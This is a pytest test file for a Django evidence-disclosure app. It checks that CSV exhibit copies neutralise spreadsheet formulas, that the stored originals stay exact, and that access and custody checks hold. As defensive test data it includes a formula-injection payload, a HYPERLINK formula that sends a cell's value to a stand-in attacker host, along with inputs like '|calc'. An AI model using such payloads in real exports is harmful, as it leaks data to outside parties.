"""Copies for a spreadsheet: no cell is run there, and the exhibit stays exact."""

import csv
import io

import pytest
from django.core.exceptions import PermissionDenied
from hypothesis import given
from hypothesis import strategies as st

from cases.enums import EventKind, Role
from cases.models import Event
from disclosures import harmless, reading
from disclosures.exceptions import CustodyBroken, PacketBroken
from tests import factories as make
from tests.disclosures import packets, stored
from tests.disclosures.admin.conftest import client_of, page_of

SUM = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("", ""),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("-5", "-5"),
        ("+1.50", "+1.50"),
        ("2023-03-01T00:00:00+00:00", "2023-03-01T00:00:00+00:00"),
        (SUM, f"'{SUM}"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("|calc", "'|calc"),
        (" =1+1", "' =1+1"),
        ("\t=1", "'\t=1"),
        ("\rplain", "'\rplain"),
        ("\n=1", "'\n=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\u200b=1", "'\u200b=1"),
        ("\x00=1", "'\x00=1"),
    ],
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell, shown):
    assert harmless.harmless(cell) == shown


@given(
    st.lists(
        st.lists(
            st.text("=+-@|'\",\r\n\tab1é", max_size=6), min_size=2, max_size=2
        ).filter(any),
        max_size=20,
    ),
    st.integers(1, 9),
)
def test_a_copy_holds_every_cell_once_whatever_the_pieces(rows, piece):
    exact = io.StringIO(newline="")
    csv.writer(exact, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
    data, out = exact.getvalue().encode(), io.BytesIO()
    copy = harmless.Copy(out)
    for start in range(0, len(data), piece):
        copy.write(data[start : start + piece])
    copy.end()

    made = list(csv.reader(io.StringIO(out.getvalue().decode(), newline="")))
    assert made == [[harmless.harmless(cell) for cell in row] for row in rows]


def opened() -> int:
    return Event.objects.filter(kind=EventKind.EXHIBIT_OPENED).count()


@pytest.mark.django_db
def test_staff_take_a_harmless_copy_and_the_exhibit_stays_exact(small, settings):
    small.run(
        "INSERT INTO events VALUES ('acct-alice', 'e9', '2022-07-01 00:00:00', "
        "'192.0.2.9', '=1+1')"
    )
    packet = packets.collected()
    exhibit = packet.exhibits.get(part_code="2a")
    analyst = client_of(make.person(Role.ANALYST))
    page = analyst.get(page_of(packet, "exhibit", 3)).content.decode()
    url = page_of(packet, "exhibit_copy", 3)
    assert f'href="{url}"' in page

    answer = analyst.get(url)

    text = b"".join(answer.streaming_content).decode()
    assert "e9,2022-07-01T00:00:00+00:00,192.0.2.9,'=1+1\r\n" in text
    assert text.count("\r\n") == exhibit.rows + 1
    name = f'filename="{packet.case.number}-E003-copy.csv"'
    assert name in answer["Content-Disposition"]
    assert b",192.0.2.9,=1+1\r\n" in stored.plain(exhibit)
    assert list(settings.WORK_DIR.iterdir()) == []
    assert opened() == 2


@pytest.mark.django_db
@pytest.mark.usefixtures("small")
def test_who_may_not_read_takes_none_and_a_statement_has_none():
    packet = packets.collected()
    exhibit = packet.exhibits.get(part_code="2a")
    with pytest.raises(PermissionDenied):
        reading.open_copy(exhibit.pk, actor=make.person(Role.AUDITOR))
    assert opened() == 0
    assert reading.open_copy(exhibit.pk - 1, actor=make.analyst()) is None
    analyst = client_of(make.person(Role.ANALYST))
    assert analyst.get(page_of(packet, "exhibit_copy", 2)).status_code == 404


@pytest.mark.django_db
@pytest.mark.usefixtures("small")
@pytest.mark.parametrize(
    ("spoil", "refusal"),
    [
        (lambda one: stored.flip(stored.path(one)), CustodyBroken),
        (lambda one: stored.rewrite(one, b'a\r\n"open'), PacketBroken),
        (lambda one: stored.rewrite(one, b"a\r\n\xff\r\n"), PacketBroken),
    ],
    ids=["changed", "no-csv", "no-text"],
)
def test_of_a_file_that_is_wrong_nothing_goes_out(spoil, refusal, settings):
    packet = packets.collected()
    exhibit = packet.exhibits.get(part_code="2a")
    spoil(exhibit)
    with pytest.raises(refusal):
        reading.open_copy(exhibit.pk, actor=make.analyst())
    assert opened() == 0
    assert list(settings.WORK_DIR.iterdir()) == []
